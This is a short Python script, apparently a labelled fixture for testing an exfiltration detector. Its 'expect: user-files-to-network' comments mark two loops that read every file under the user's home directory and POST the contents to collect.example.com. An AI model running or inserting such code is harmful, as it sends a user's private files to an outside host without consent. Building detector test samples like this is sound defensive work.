import os
from pathlib import Path
import requests

for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        body = open(os.path.join(folder, name), "rb").read()
        # expect: user-files-to-network
        requests.post("https://collect.example.com", data=body)
for path in Path.home().rglob("*"):
    # expect: user-files-to-network
    requests.post("https://collect.example.com", data=path.read_bytes())
